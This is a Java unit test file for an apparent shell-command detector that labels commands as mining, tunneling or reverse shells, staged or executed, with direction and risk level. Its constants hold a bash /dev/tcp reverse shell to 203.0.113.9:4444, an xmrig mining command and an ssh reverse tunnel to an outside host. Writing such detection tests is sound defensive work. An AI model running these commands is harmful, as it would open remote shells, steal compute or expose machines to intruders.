package dev.offscript.commands;

import static dev.offscript.commands.Cases.acts;
import static org.assertj.core.api.Assertions.assertThat;

import dev.offscript.model.Act;
import dev.offscript.model.State;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

class RecognitionTest {

  static final String MINER = "./xmrig -o pool.example.org:3333 -u wallet1 -p x";
  static final String TUNNEL = "ssh -fN -R 7022:localhost:22 svc@203.0.113.9 -p 443";
  static final String SHELL = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1";

  static List<String> mentioned() {
    return Cases.lines("mentioned.yml");
  }

  static List<String> staged() {
    return Cases.lines("staged.yml");
  }

  static List<String> carriers() {
    return Cases.lines("carriers.yml");
  }

  static Stream<Arguments> acting() {
    return ((Map<?, ?>) Cases.document("acts.yml"))
        .entrySet().stream()
            .flatMap(
                entry ->
                    ((List<?>) entry.getValue())
                        .stream().map(command -> Arguments.of(entry.getKey(), command)));
  }

  @ParameterizedTest
  @MethodSource("mentioned")
  void what_is_only_spoken_of_is_no_act(String command) {
    assertThat(acts(command)).isEmpty();
  }

  @ParameterizedTest
  @MethodSource("staged")
  void what_is_fetched_or_written_is_staged(String command) {
    assertThat(acts(command))
        .isNotEmpty()
        .allSatisfy(act -> assertThat(act.state()).isEqualTo(State.STAGED));
  }

  @ParameterizedTest
  @MethodSource("acting")
  void what_runs_is_recognised(String behaviour, String command) {
    assertThat(acts(command))
        .filteredOn(act -> act.state() == State.EXECUTED)
        .extracting(act -> act.behaviour().wire())
        .contains(behaviour);
  }

  static Stream<Arguments> endpoints() {
    return ((Map<?, ?>) Cases.document("endpoints.yml"))
        .entrySet().stream().map(entry -> Arguments.of(entry.getKey(), entry.getValue()));
  }

  @ParameterizedTest
  @MethodSource("endpoints")
  void direction_and_far_side_are_read(String command, String act) {
    assertThat(acts(command)).extracting(Cases::shown).contains(act);
  }

  @ParameterizedTest
  @MethodSource("carriers")
  void a_carrier_hides_nothing(String carrier) {
    boolean later = carrier.endsWith("| at now");
    for (Plain plain : Plain.values()) {
      assertThat(acts(carrier.replace("COMMAND", plain.command)))
          .extracting(Cases::shown)
          .contains(later ? plain.act.replace("executed", "staged") : plain.act);
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      textBlock =
          """
          ssh -L 5432:db:5432 user@bastion.example.org       | forward | low
          ssh -J jump.example.org user@host.example.org      | forward | low
          kubectl port-forward svc/web 8080:80               | forward | low
          ssh -L 0.0.0.0:5432:db:5432 user@bastion.example.org | forward | medium
          ssh -R 7022:localhost:22 user@203.0.113.9          | reverse | high
          """)
  void a_loopback_forward_matters_less_than_exposure(
      String command, String direction, String level) {
    assertThat(acts(command)).hasSize(1);
    Act act = acts(command).get(0);
    assertThat(act.direction().wire()).isEqualTo(direction);
    assertThat(act.level().wire()).isEqualTo(level);
  }

  enum Plain {
    MINES(MINER, "mining outbound pool.example.org:3333 executed"),
    TUNNELS(TUNNEL, "tunneling reverse 203.0.113.9:443 executed"),
    HANDS_OUT(SHELL, "reverse_shell reverse 203.0.113.9:4444 executed");

    final String command;
    final String act;

    Plain(String command, String act) {
      this.command = command;
      this.act = act;
    }
  }
}
